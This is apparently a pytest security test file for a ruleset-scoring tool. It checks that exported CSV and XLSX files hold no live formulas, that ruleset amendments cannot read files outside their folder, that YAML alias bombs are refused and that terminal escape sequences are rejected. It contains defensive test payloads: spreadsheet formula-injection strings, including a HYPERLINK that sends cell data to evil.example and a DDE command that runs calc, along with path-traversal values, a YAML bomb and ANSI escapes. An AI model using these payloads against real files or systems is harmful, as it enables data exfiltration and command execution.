"""Untrusted rulesets, data and forms: no live formula in a file we write, no file read through `amends`,
no YAML alias expansion, no escape sequence to the terminal (docs/security.md)."""

from __future__ import annotations

import csv
import io
import os
import unicodedata
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cqdt_rules import api
from cqdt_rules.cli.main import main
from cqdt_rules.errors import DataError, RulesetError
from cqdt_rules.tables import csv_cell, holds_control_character

ROOT = Path(__file__).resolve().parent.parent

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
           "@SUM(A1:A2)", "=1+1"]

RULESET = '''ruleset t {
  title "Thử"
  version "1"
  status hypothetical
  years 2022..2022
  rounding 3
  on_zero_denominator 0
}
tier xa "Xã" max 10 {
  levels muc "Mức" { I "=HYPERLINK(\\"http://evil.example\\")" >= 50%  below "@SUM(A1)" }
  ranking hang "Xếp hạng" by total descending
  criterion A "+Tiêu chí" max 10 {
    input c category(tot "=1+2", kem "-kém") "Chất lượng"
    category c { tot -> 10  kem -> 0 }
    provenance hypothetical "thử"
  }
}
'''


def _data(tmp_path: Path) -> tuple[Path, Path]:
    rules = tmp_path / "r.cqdt"
    rules.write_text(RULESET, encoding="utf-8")
    lines = ["units:"]
    for index, name in enumerate(HOSTILE):
        quoted = name.replace("'", "''")
        lines.append(f"  - {{code: X{index}, name: '{quoted}', tier: xa, year: 2022, source: audit, "
                     f"values: {{c: {'tot' if index % 2 else 'kem'}}}}}")
    data = tmp_path / "u.yaml"
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return rules, data


# ---------------------------------------------------------------- CSV
def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe_and_numbers_stay_numbers() -> None:
    for text in HOSTILE + ["\tx", "\rx"]:
        assert csv_cell(text) == "'" + text
    for kept in ["-1.5", "-3", "+2", "Xã -1", Decimal("-1.5"), -2, "", "1,5"]:
        assert csv_cell(kept) == kept


def test_score_csv_writes_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules, data = _data(tmp_path)
    assert main(["score", str(rules), str(data), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE)
    assert {r["total"] for r in rows} == {"0.000", "10.000"}  # numbers are written as numbers


def test_summary_out_writes_no_formula_in_its_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules, data = _data(tmp_path)
    assert main(["summary", str(rules), str(data), "--out", str(tmp_path / "out")]) == 0
    (results,) = (tmp_path / "out").glob("*-results.csv")
    rows = list(csv.DictReader(io.StringIO(results.read_text(encoding="utf-8"))))
    assert all(not r["name"][:1] in "=+-@" for r in rows)
    assert {r["level_muc"] for r in rows} == {"'=HYPERLINK(\"http://evil.example\")", "'@SUM(A1)"}


def _more_data(tmp_path: Path) -> dict[str, str]:
    """The hostile units audited, self-assessed, and audited the year before, for the commands comparing them."""
    rules, audit = _data(tmp_path)
    rules.write_text(RULESET.replace("years 2022..2022", "years 2021..2022"), encoding="utf-8")
    text = audit.read_text(encoding="utf-8")
    own, previous = tmp_path / "self.yaml", tmp_path / "previous.yaml"
    own.write_text(text.replace("source: audit", "source: self").replace("{c: kem}", "{c: tot}"), encoding="utf-8")
    previous.write_text(text.replace("year: 2022", "year: 2021").replace("{c: kem}", "{c: tot}"), encoding="utf-8")
    return {"rules": str(rules), "audit": str(audit), "self": str(own), "previous": str(previous)}


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if csv_cell(cell) != cell]


@pytest.mark.parametrize("command", [
    ["score", "{rules}", "{audit}"],
    ["shortfalls", "{rules}", "{audit}"],
    ["gaps", "{rules}", "{audit}"],
    ["audit", "{rules}", "{audit}", "{self}"],
    ["compare", "{rules}", "{audit}", "--previous", "{previous}"],
    ["transition", "{rules}", "{previous}", "{rules}", "{audit}"],
    ["sensitivity", "{rules}", "{audit}", "--runs", "20", "--seed", "1"],
], ids=lambda c: c[0])
def test_every_csv_a_command_writes_holds_no_formula(command: list[str], tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    paths = _more_data(tmp_path)
    assert main([word.format(**paths) for word in command] + ["--format", "csv", "--lang", "en"]) == 0
    written = capsys.readouterr().out
    assert "'=" in written or "'+" in written or "'@" in written  # input text that would be a formula is there
    assert _formula_cells(written) == []


def test_the_change_log_csv_of_versions_holds_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = _more_data(tmp_path)
    changed = tmp_path / "changed.yaml"
    changed.write_text(Path(paths["audit"]).read_text(encoding="utf-8").replace("{c: kem}", "{c: tot}"), encoding="utf-8")
    folder = str(tmp_path / "versions")
    for data, label, reason in ((paths["audit"], "=A1", "@SUM(A1)"), (str(changed), "b", "=HYPERLINK(1)")):
        assert main(["versions", folder, "--ruleset", paths["rules"], "--add", data, "--label", label,
                     "--reason", reason, "--source", "audit"]) == 0
    capsys.readouterr()
    assert main(["versions", folder, "--format", "csv", "--lang", "en"]) == 0
    written = capsys.readouterr().out
    assert "'=HYPERLINK(1)" in written
    assert _formula_cells(written) == []


# ---------------------------------------------------------------- XLSX
def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_xlsx_rankings_hold_input_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
    rules, data = _data(tmp_path)
    note = "=cmd|' /C calc'!A0"
    assert main(["report", str(rules), str(data), "--out", str(tmp_path / "out"), "--formats", "xlsx",
                 "--note", note]) == 0
    (book,) = (tmp_path / "out").glob("*.xlsx")
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE) <= texts  # each unit's name, exactly as given: no apostrophe
    assert '=HYPERLINK("http://evil.example")' in texts and "@SUM(A1)" in texts
    assert any(isinstance(c.value, (int, float)) for c in cells)  # numbers are still numbers


def test_template_lists_category_labels_as_text(tmp_path: Path) -> None:
    rules, _ = _data(tmp_path)
    units = tmp_path / "units.csv"
    units.write_text("tier,code,name,parent\nxa,X1,\"=HYPERLINK(\"\"http://evil.example\"\")\",\n", encoding="utf-8")
    assert main(["template", str(rules), "--tier", "xa", "--out", str(tmp_path / "form.xlsx")]) == 0
    assert main(["template", str(rules), "--tier", "xa", "--units", str(units), "--out", str(tmp_path / "forms")]) == 0
    for book in [tmp_path / "form.xlsx", *(tmp_path / "forms").glob("*.xlsx")]:
        cells = _cells(book)
        assert not [c.coordinate for c in cells if c.data_type == "f"], book
        assert {"=1+2", "-kém"} <= {c.value for c in cells}
    (form,) = (tmp_path / "forms").glob("*.xlsx")
    assert '=HYPERLINK("http://evil.example")' in {c.value for c in _cells(form)}


# ---------------------------------------------------------------- amends
AMENDMENT = '''ruleset sua {{
  title "Sửa"
  amends {base}
  years 2022..2022
}}
'''


@pytest.fixture()
def secret(tmp_path: Path) -> Path:
    folder = tmp_path / "secret"
    folder.mkdir()
    target = folder / "base.cqdt"
    target.write_text("API_KEY=do-not-print-me\n", encoding="utf-8")
    (folder / ".env").write_text("PASSWORD=do-not-print-me\n", encoding="utf-8")
    return target


@pytest.mark.parametrize("base", ['"../secret/base.cqdt"', "ABSOLUTE", '".env"', '"sub/../../secret/base.cqdt"'])
def test_amends_outside_its_folder_or_of_a_non_ruleset_is_refused_before_reading(
        tmp_path: Path, secret: Path, base: str, capsys: pytest.CaptureFixture[str]) -> None:
    here = tmp_path / "here"
    here.mkdir()
    (here / ".env").write_text("PASSWORD=do-not-print-me\n", encoding="utf-8")
    base = f'"{secret}"' if base == "ABSOLUTE" else base
    amendment = here / "sua.cqdt"
    amendment.write_text(AMENDMENT.format(base=base), encoding="utf-8")
    with pytest.raises(RulesetError) as error:
        api.load(amendment)
    assert "refused" in error.value.render() and "do-not-print-me" not in error.value.render()
    assert main(["check", str(amendment)]) == 1
    assert "do-not-print-me" not in capsys.readouterr().err


def test_amends_through_a_symbolic_link_out_of_the_folder_is_refused(tmp_path: Path, secret: Path) -> None:
    here = tmp_path / "here"
    here.mkdir()
    os.symlink(secret, here / "base.cqdt")
    amendment = here / "sua.cqdt"
    amendment.write_text(AMENDMENT.format(base='"base.cqdt"'), encoding="utf-8")
    with pytest.raises(RulesetError, match="refused") as error:
        api.load(amendment)
    assert "do-not-print-me" not in error.value.render()
    amendment.write_text(AMENDMENT.format(base="other_id"), encoding="utf-8")  # found by id beside it: not followed
    with pytest.raises(RulesetError) as by_id:
        api.load(amendment)
    assert "do-not-print-me" not in by_id.value.render()


def test_amends_a_file_below_its_folder_is_allowed(tmp_path: Path) -> None:
    (tmp_path / "base").mkdir()
    shipped = (ROOT / "examples" / "amendment" / "egov-2022-hypothetical.cqdt").read_text(encoding="utf-8")
    (tmp_path / "base" / "egov.cqdt").write_text((ROOT / "rulesets" / "2020" / "egov.cqdt").read_text(encoding="utf-8"),
                                                 encoding="utf-8")
    amendment = tmp_path / "sua.cqdt"
    amendment.write_text(shipped.replace("amends egov_2020", 'amends "base/egov.cqdt"'), encoding="utf-8")
    assert api.load(amendment).ruleset.amends == ("egov_2020",)


# ---------------------------------------------------------------- YAML
def test_a_yaml_alias_bomb_is_refused_without_expanding_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
              for i in range(1, 10)]
    lines += ["units:", "  - {code: X1, name: *a9, tier: xa, year: 2022, source: self}"]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(DataError) as error:
        api.load_assessments(bomb)
    assert [d.message for d in error.value.diagnostics] == ["an alias (*name) repeats the value anchored here (&name)"]
    rules, _ = _data(tmp_path)
    assert main(["score", str(rules), str(bomb), "--lang", "en"]) == 1
    err = capsys.readouterr().err
    assert "repeats the value anchored here" in err and len(err) < 2000


# ---------------------------------------------------------------- terminal escapes and control characters
def test_an_escape_sequence_in_a_unit_name_is_refused_and_never_printed_raw(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rules, _ = _data(tmp_path)
    data = tmp_path / "esc.csv"
    data.write_text("code,name,tier,year,source,c\nX1,\"Xã \x1b[31mĐỏ\x1b[0m\",xa,2022,self,tot\n", encoding="utf-8")
    assert main(["score", str(rules), str(data)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "U+001B" in err and f"{data}:2:" in err


def test_a_control_character_in_a_ruleset_label_is_a_positioned_error() -> None:
    text = RULESET.replace('"+Tiêu chí"', '"Tiêu \x1b[2Jchí"')
    with pytest.raises(RulesetError, match="control character") as error:
        api.load_text(text, "r.cqdt")
    assert "r.cqdt:12:" in error.value.render() and "\x1b" not in error.value.render()


def test_a_control_character_in_report_note_is_a_usage_error(tmp_path: Path) -> None:
    rules, data = _data(tmp_path)
    with pytest.raises(SystemExit) as exited:
        main(["report", str(rules), str(data), "--out", str(tmp_path / "o"), "--note", "a\x07b"])
    assert exited.value.code == 2


def test_a_unit_list_with_a_control_character_is_refused_before_any_form_is_written(tmp_path: Path) -> None:
    rules, _ = _data(tmp_path)
    units = tmp_path / "units.csv"
    units.write_text("tier,code,name,parent\nxa,X1,\"Xã \x1b[31mĐỏ\",\n", encoding="utf-8")
    assert main(["template", str(rules), "--tier", "xa", "--units", str(units), "--out", str(tmp_path / "forms")]) == 1
    assert not list((tmp_path / "forms").glob("*.xlsx")) if (tmp_path / "forms").exists() else True


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=40)
       | st.lists(st.sampled_from(["Xã Đạt", " ", "\u00a0", "\u200b", "\n", "\x85", "\x7f", "\u2028", "a"])).map("".join))
def test_a_control_character_is_found_wherever_it_is(text: str) -> None:
    """The quick answer for printable text (most names and codes) and the search agree: any character of category Cc."""
    assert holds_control_character(text) == any(unicodedata.category(c) == "Cc" for c in text)
